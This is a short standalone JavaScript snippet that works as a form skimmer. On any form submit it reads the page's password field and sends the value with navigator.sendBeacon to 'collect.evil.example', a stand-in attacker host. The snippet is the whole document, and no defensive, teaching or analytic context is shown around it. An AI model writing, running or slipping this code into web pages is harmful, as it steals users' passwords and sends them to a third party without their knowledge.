addEventListener("submit", function () {
  var pw = document.getElementById("password").value;
  navigator.sendBeacon("https://collect.evil.example/b", pw);
});
